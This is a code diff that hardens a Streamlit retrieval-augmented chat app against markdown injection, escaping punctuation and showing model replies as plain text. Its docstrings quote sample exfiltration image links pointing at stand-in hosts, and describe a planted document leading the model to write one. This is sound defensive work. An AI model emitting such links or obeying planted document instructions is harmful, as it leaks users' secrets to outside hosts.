@@ -3,11 +3,15 @@
 The model and the embedder are loaded once per process (`st.cache_resource`) and put in session
 state; a test (or a future settings page) can put its own backend or embedder there first.
 Every page shows which model answers.
+
+What users or models wrote (file names, passages, questions, replies, titles) is shown as text:
+with `st.text` where the element allows it, else through `escape_markdown`, never as Markdown.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Iterator
+import re
+from collections.abc import Iterable
 from pathlib import Path
 
 import streamlit as st
@@ -50,7 +54,7 @@ def _load_classifier(path: str):
 
 def fail(message: str) -> None:
     """Show a problem and stop this page's run; the app and other pages carry on."""
-    st.error(message)
+    st.error(escape_markdown(message))  # messages name files and indexes users chose
     st.stop()
 
 
@@ -106,20 +110,26 @@ def top_k() -> int:
     return int(st.session_state.get("top_k") or settings.top_k())
 
 
-def markdown_safe(text: str) -> str:
-    """Model output and document text shown as markdown, with link and image syntax disarmed.
-
-    A planted document could make the model write `![x](https://evil/?q=secret)`, an image the
-    browser would fetch; escaping every "[" keeps the text readable and makes no link at all.
-    """
-    return text.replace("[", "\\[")
+# Every ASCII punctuation character, each of which CommonMark lets a backslash make literal.
+_MARKDOWN_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
 
 
-def stream_to(pieces: Iterable[str], sink: list[str]) -> Iterator[str]:
-    """Pass a reply stream to `st.write_stream` (escaped), keeping the raw text in `sink`."""
+def escape_markdown(text: str) -> str:
+    """`text` to show literally where Streamlit only offers Markdown (alerts, captions, headings,
+    labels): a file named `![x](http://host/leak.png)` would otherwise make the browser fetch that
+    URL. Escaping all punctuation, not a chosen few, also disarms HTML, entities, autolinks and
+    Streamlit's own `:color[...]`, `:icon:` and `$math$`; each line ends in a hard break so lines
+    stay lines. Hand-written because Streamlit ships no escaper and CommonMark makes it one rule."""
+    return "  \n".join(_MARKDOWN_PUNCTUATION.sub(r"\\\1", line) for line in text.split("\n"))
+
+
+def stream_text(pieces: Iterable[str], sink: list[str]) -> None:
+    """Show a reply as plain text while it streams (`st.write_stream` would render Markdown),
+    keeping the raw pieces in `sink`."""
+    slot = st.empty()
     for piece in pieces:
         sink.append(piece)
-        yield markdown_safe(piece)
+        slot.text("".join(sink))
 
 
 def stream_rag_answer(pieces: Iterable[str], hits) -> Answer:
@@ -129,9 +139,9 @@ def stream_rag_answer(pieces: Iterable[str], hits) -> Answer:
     slot = st.empty()
     raw: list[str] = []
     with slot.container():
-        st.write_stream(stream_to(pieces, raw))
+        stream_text(pieces, raw)
     answer = finalize("".join(raw), hits)
-    slot.markdown(markdown_safe(answer.text))
+    slot.text(answer.text)
     return answer
 
 
@@ -141,18 +151,18 @@ def show_passages(passages: list[Chunk], expanded: bool) -> None:
         return
     with st.expander(f"Retrieved passages ({len(passages)})", expanded=expanded):
         for chunk in passages:
-            st.markdown(f"**{markdown_safe(citation_label(chunk))}**")
+            st.markdown(f"**{escape_markdown(citation_label(chunk))}**")  # Markdown for the bold
             st.text(chunk.text)
 
 
 def show_answer(answer: Answer, expanded: bool, with_text: bool = True) -> None:
     """An answer's text (unless already shown), its citations, and the passages it read."""
     if with_text:
-        st.markdown(markdown_safe(answer.text))
+        st.text(answer.text)
     if answer.citations:
         note = f" ({', '.join(answer.attributed)} added where a sentence matches the passage)" if answer.attributed else ""
-        st.caption(markdown_safe("Cites: " + " ".join(answer.citations) + note))
+        st.caption(escape_markdown("Cites: " + " ".join(answer.citations) + note))
     if answer.unsupported_citations:
-        st.warning("The model also cited sources that were not retrieved: "
-                   + markdown_safe(", ".join(answer.unsupported_citations)))
+        st.warning(escape_markdown("The model also cited sources that were not retrieved: "
+                                   + ", ".join(answer.unsupported_citations)))
     show_passages(answer.passages, expanded)
